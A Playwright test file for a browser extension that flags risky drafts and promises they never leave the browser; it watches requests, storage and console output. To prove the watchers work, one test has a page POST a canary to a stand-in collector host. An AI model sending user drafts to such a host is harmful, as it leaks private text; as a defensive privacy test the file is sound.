/**
 * The product's promise, checked end to end: a draft never leaves the browser, is never stored and
 * is never logged (issue 6, Privacy).
 *
 * One full session in its own browser: a risky draft carrying a unique marker is typed on every
 * compose surface of the fixtures (posts, replies, comments and messages on X, Facebook and
 * LinkedIn, and the generic fallbacks), its card is opened and closed, it is sent through the
 * review; the popup and the options page are opened and a setting is changed. Meanwhile every
 * request of the browser is judged (pages, content scripts, the service worker, extension pages)
 * and all console output is kept. Afterwards every place a draft could linger is read back and
 * searched for any 12-character run of any draft.
 *
 * A second test proves the watchers see what they must, so that a silent session means something.
 */
import type { BrowserContext, Page, Worker } from '@playwright/test';
import { card, reviewDialog, RISKY_SPAN, underlined } from './support/extension';
import { existsSync } from 'node:fs';
import path from 'node:path';
import { EXTENSION_DIR, expect, fixtureApi, openFixture, test as base } from './support/fixtures';
import { launchChromium, type Launched } from './support/launcher';
import { domOutsideEditor, draftRunsIn, watchActivity, webStorageDump, type Activity } from './support/privacy';
import { FIXTURE_HOSTS } from './support/routes';
import { CASES } from './support/surfaces';

/** The few extension APIs the tests call inside the worker (the spec itself runs in Node). */
declare const chrome: {
  storage: Record<'local' | 'sync' | 'session', { get(keys: null): Promise<Record<string, unknown>> }>;
  tabs: { query(filter: object): Promise<Array<{ id?: number; url?: string }>> };
};

/**
 * Each test gets its own browser and profile (nothing typed elsewhere; the watchers see the whole
 * session), launched with `serviceWorkers: 'allow'` so that Playwright reports the requests of the
 * extension's service worker too (with the default 'block' it reports none of them).
 */
const test = base.extend<{ watchedBrowser: Launched }>({
  watchedBrowser: async ({ withExtension }, use, testInfo) => {
    if (!withExtension) throw new Error('privacy.spec.ts watches the extension: it needs withExtension');
    if (!existsSync(path.join(EXTENSION_DIR, 'manifest.json'))) {
      testInfo.skip(true, `No extension build at ${EXTENSION_DIR}: run \`npm run build\`.`);
    }
    const launched = await launchChromium({ extensionDir: EXTENSION_DIR, serviceWorkers: 'allow' });
    try {
      await use(launched);
    } finally {
      await launched.close();
    }
  },
  context: async ({ watchedBrowser }, use) => use(watchedBrowser.context),
  network: async ({ watchedBrowser }, use) => use(watchedBrowser.network),
});

/**
 * A draft that several rules flag (a patient's name, a bed, advice on medicines, an NHS number),
 * so the card and the review have plenty to say, with a marker unique to one surface. It ends on
 * the NHS number so the caret sits on a finding and Alt+Shift+L opens its card.
 */
const draftFor = (index: number) =>
  `Mrs Agnes Wrenfold in bed 6 on Larch ward: stop taking your statins. Zq${index}vellumKirtle NHS no 463 030 8245`;

const isTextarea = (surface: string) => surface === 'generic-textarea';
const X_HOME = CASES.find((c) => c.url === 'https://x.com/home')!;

/** Fails softly (the session goes on, so every leak is listed) with each run found. */
function expectNoDraftIn(haystack: string, drafts: readonly string[], where: string): void {
  const runs = draftRunsIn(haystack, drafts, where);
  expect.soft(runs, `draft text found in ${where}`).toEqual([]);
}

async function openExtensionPage(context: BrowserContext, extensionId: string, path: string): Promise<Page> {
  const page = await context.newPage();
  await page.goto(`chrome-extension://${extensionId}/${path}`);
  return page;
}

/** A new tab and the browser's id for it (the popup is told which tab to describe, as in popup-options.spec.ts). */
async function openTab(context: BrowserContext, worker: Worker, extensionId: string) {
  const page = await context.newPage();
  const probe = `chrome-extension://${extensionId}/welcome.html?probe=${Math.random().toString(36).slice(2)}`;
  await page.goto(probe);
  const tabId = await worker.evaluate(
    (url) => chrome.tabs.query({}).then((t) => t.find((x) => x.url === url)?.id),
    probe,
  );
  if (tabId === undefined) throw new Error('the new tab was not found');
  return { page, tabId };
}

/** The extension's running worker; a new one if the browser had stopped the old one. */
async function liveWorker(context: BrowserContext, extensionId: string, wake: Page): Promise<Worker> {
  const running = context.serviceWorkers().find((w) => w.url().includes(extensionId));
  if (running) return running;
  const next = context.waitForEvent('serviceworker', { predicate: (w) => w.url().includes(extensionId) });
  await wake.reload();
  return next;
}

function expectNoRequests(activity: Activity): void {
  expect
    .soft(
      activity.forbidden,
      'The extension (or a page with it) made a network request. A draft must never leave the browser: ' +
        'find what sent it. Fixture pages may load only their own documents and /__fixtures__/ assets.',
    )
    .toEqual([]);
}

test('a full session on every surface: no request leaves the browser, and no draft text is stored, logged or left in the page', async ({
  context,
  extensionId,
  serviceWorker,
  network,
}) => {
  test.setTimeout(300_000);
  const extensionOrigin = `chrome-extension://${extensionId}`;
  const activity = await watchActivity(context, extensionOrigin);
  const drafts: string[] = [];

  for (const [index, c] of CASES.entries()) {
    await test.step(c.title, async () => {
      activity.step = c.title;
      const draft = draftFor(index);
      drafts.push(draft);
      const page = await context.newPage();
      const api = fixtureApi(page);
      await openFixture(page, c.url);
      await c.open?.(page);
      await c.editor(page).click();
      await page.keyboard.type(draft);
      await expect.poll(() => api.model(c.surface)).toBe(draft);
      if (!isTextarea(c.surface)) await expect.poll(() => underlined(page)).toContain(RISKY_SPAN);
      const editor = await c.editor(page).elementHandle();
      const checkDom = async (state: string, ourUiOnly = false) =>
        expectNoDraftIn(
          await domOutsideEditor(page, editor, ourUiOnly),
          drafts,
          `the page's DOM outside the editor (${state}, ${c.title})`,
        );
      await checkDom('underlined');

      if (!isTextarea(c.surface)) {
        await page.keyboard.press('Alt+Shift+L');
        await expect(card(page)).toBeVisible();
        await checkDom('card open');
        await page.keyboard.press('Escape');
        await expect(card(page)).toHaveCount(0);
        await checkDom('card closed');
      }

      await c.send(page);
      await expect(reviewDialog(page)).toBeVisible();
      await checkDom('review dialog open');
      await reviewDialog(page).getByRole('button', { name: 'Post anyway' }).click();
      await expect.poll(() => api.sent()).toEqual([{ surface: c.surface, text: draft }]);
      await expect(reviewDialog(page)).toHaveCount(0);
      // The site now shows the sent post (the LinkedIn comment fixture lists it): only our UI is
      // checked from here, and the closed review must have left nothing of the draft behind.
      await checkDom('after sending', true);
      // sessionStorage is per tab: read it (with the origin's other stores) before the tab goes.
      expectNoDraftIn(await webStorageDump(page), drafts, `web storage of ${new URL(c.url).origin} (${c.title})`);
      await page.close();
    });
  }

  await test.step('the popup and the options page; a setting changed', async () => {
    activity.step = 'popup and options';
    const draft = draftFor(CASES.length);
    drafts.push(draft);
    const { page, tabId } = await openTab(context, serviceWorker, extensionId);
    await openFixture(page, 'https://x.com/home');
    await page.locator('[data-testid="tweetTextarea_0"][role="textbox"]').click();
    await page.keyboard.type(draft);
    await expect.poll(() => underlined(page)).toContain(RISKY_SPAN);

    const popup = await openExtensionPage(context, extensionId, `popup.html?tab=${tabId}`);
    await expect(popup.getByRole('status')).toContainText('Your X draft');
    // The popup describes the draft; it never shows it.
    expectNoDraftIn(await popup.locator('body').innerText(), drafts, 'the popup');
    expectNoDraftIn(await webStorageDump(popup), drafts, 'web storage of the popup (extension origin)');

    const options = await openExtensionPage(context, extensionId, 'options.html');
    await options.locator('#mode-linkedin').selectOption('inline');
    await expect(options.getByRole('status')).toHaveText('Saved.');
    expectNoDraftIn(await webStorageDump(options), drafts, 'web storage of the options page (extension origin)');

    await page.keyboard.press('Control+Enter');
    await reviewDialog(page).getByRole('button', { name: 'Post anyway' }).click();
    await expect.poll(() => fixtureApi(page).sent()).toEqual([{ surface: 'x-home', text: draft }]);
    for (const open of [popup, options, page]) await open.close();
  });

  await test.step('afterwards: extension storage, site storage, console output and requests', async () => {
    activity.step = 'reading back';
    const options = await openExtensionPage(context, extensionId, 'options.html');
    const worker = await liveWorker(context, extensionId, options);
    for (const area of ['local', 'sync', 'session'] as const) {
      const stored = JSON.stringify(await worker.evaluate((a) => chrome.storage[a].get(null), area));
      if (area === 'sync') {
        // Proof the right store was read: the setting changed above is in it.
        expect(stored, 'the changed setting should be in chrome.storage.sync').toContain('inline');
      }
      expectNoDraftIn(stored, drafts, `chrome.storage.${area}`);
    }
    expectNoDraftIn(await webStorageDump(worker), drafts, "the extension origin's IndexedDB and Cache Storage");
    expectNoDraftIn(await webStorageDump(options), drafts, "the extension origin's localStorage");
    await options.close();

    // Content scripts share their page's origin storage: read each fixture origin back.
    for (const host of Object.keys(FIXTURE_HOSTS)) {
      const page = await context.newPage();
      await openFixture(page, CASES.find((c) => new URL(c.url).host === host)?.url ?? `https://${host}/`);
      expectNoDraftIn(await webStorageDump(page), drafts, `web storage of https://${host}`);
      await page.close();
    }

    await activity.stop();
    expectNoDraftIn(activity.console.join('\n'), drafts, 'console output of pages, extension pages and the worker');
    expectNoRequests(activity);
    expect.soft(network.unexpected, 'requests to hosts other than the fixture hosts').toEqual([]);
    expect.soft(network.unmatched, 'requests on fixture hosts that are not a fixture page or asset').toEqual([]);
  });
});

test('the watchers see what they must: page requests, console output from every world, and the CSP stops the worker and extension pages from fetching', async ({
  context,
  page,
  extensionId,
  serviceWorker,
}) => {
  const extensionOrigin = `chrome-extension://${extensionId}`;
  const activity = await watchActivity(context, extensionOrigin);
  const canary = `canary-${Math.random().toString(36).slice(2, 10)}`;

  // A request from a fixture page to its own host (a stand-in for a content script posting a
  // draft to the site's API) and one to another host: both are caught, with their URLs.
  await openFixture(page, 'https://x.com/home');
  await page.evaluate(async (tag) => {
    for (const url of [`https://x.com/i/api/drafts?${tag}`, `https://collector.example/${tag}`]) {
      await fetch(url, { method: 'POST', body: tag }).catch(() => undefined);
    }
  }, canary);
  await expect.poll(() => activity.forbidden.join('\n')).toContain(`https://x.com/i/api/drafts?${canary}`);
  expect(activity.forbidden.join('\n')).toContain(`https://collector.example/${canary}`);

  // The DOM reader skips the editor but reads our UI's shadow root: a copy of the draft put there
  // (as a card quoting it would) is found.
  const draft = draftFor(99);
  const editor = X_HOME.editor(page);
  await editor.click();
  await page.keyboard.type(draft);
  await expect.poll(() => underlined(page)).toContain(RISKY_SPAN);
  const handle = await editor.elementHandle();
  expect(draftRunsIn(await domOutsideEditor(page, handle), [draft], 'page')).toEqual([]);
  await page.keyboard.press('Alt+Shift+L'); // our UI host exists once something is shown
  await expect(card(page)).toBeVisible();
  await page.evaluate((text) => {
    document.querySelector('second-look-ui')!.shadowRoot!.append(document.createTextNode(text.slice(20, 32)));
  }, draft);
  expect(draftRunsIn(await domOutsideEditor(page, handle, true), [draft], 'our UI')).toHaveLength(1);

  // Console output of the content script's isolated world, reached through the DevTools protocol.
  const cdp = await context.newCDPSession(page);
  const worlds: Array<{ id: number; origin: string; type?: string }> = [];
  cdp.on('Runtime.executionContextCreated', ({ context: world }) =>
    worlds.push({ id: world.id, origin: world.origin, type: world.auxData?.['type'] }),
  );
  await cdp.send('Runtime.enable');
  const isolated = worlds.find((w) => w.type === 'isolated' && w.origin === extensionOrigin);
  expect(isolated, "the content script's isolated world").toBeDefined();
  await cdp.send('Runtime.evaluate', { contextId: isolated!.id, expression: `console.log('${canary}-isolated')` });

  // …of the worker and of an extension page.
  // eslint-disable-next-line no-console -- the canary the watcher must see
  await serviceWorker.evaluate((tag) => console.log(`${tag}-worker`), canary);
  const options = await context.newPage();
  await options.goto(`${extensionOrigin}/options.html`);
  // eslint-disable-next-line no-console -- the canary the watcher must see
  await options.evaluate((tag) => console.log(`${tag}-extension-page`), canary);
  for (const where of ['isolated', 'worker', 'extension-page']) {
    await expect.poll(() => activity.console.join('\n')).toContain(`${canary}-${where}`);
  }

  // The extension's own CSP (default-src 'self') refuses any fetch from its pages and worker, so
  // nothing from them reaches the network at all; a route would otherwise have answered this URL.
  const probe = `https://x.com/home?${canary}`;
  const tryFetch = (url: string) =>
    fetch(url).then(
      (r) => `status ${r.status}`,
      (e: Error) => `refused: ${e.message}`,
    );
  expect(await serviceWorker.evaluate(tryFetch, probe)).toMatch(/^refused/);
  expect(await options.evaluate(tryFetch, probe)).toMatch(/^refused/);
  await cdp.detach();
  await activity.stop();
  expect(activity.forbidden.join('\n')).not.toContain(probe);
});
